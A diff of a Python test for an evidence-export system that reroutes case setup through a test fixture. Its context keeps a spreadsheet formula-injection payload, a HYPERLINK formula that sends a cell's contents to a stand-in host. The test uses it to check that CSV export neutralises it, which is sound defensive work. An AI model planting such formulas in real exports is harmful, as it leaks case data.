@@ -12,11 +12,11 @@ from evidence.custody import Actor
 from evidence.model import EvidenceItem, utcnow
 from evidence.quarantine import Quarantine
 from evidence.settings import Settings
-from storage import case_service
 from storage.bootstrap import Services
 from storage.database import make_engine, migrate
 from storage.local_store import LocalStore
 from storage.unit_of_work import SqlRepository
+from tests.fixtures import case_desk
 from tests.fixtures.bundles import export_as
 
 FORMULA = '=HYPERLINK("https://example.invalid/?"&A2,"Open exhibit")'
@@ -55,8 +55,8 @@ def test_a_formula_device_is_inert_in_the_csv_and_kept_in_json_and_custody(
         item, [("received", officer, item.sha256, {"sidecar": {"device": FORMULA}}, utcnow())]
     )
     desk = Actor("DC1001", "desk-01")
-    case_service.create_case(services, URN, desk)
-    case_service.link_items(services, URN, [item.id], desk)
+    case_desk.create_case(services, URN, desk)
+    case_desk.link_items(services, URN, [item.id], desk)
 
     bundle = export_as(services, URN, tmp_path / "out", desk)
     engine.dispose()
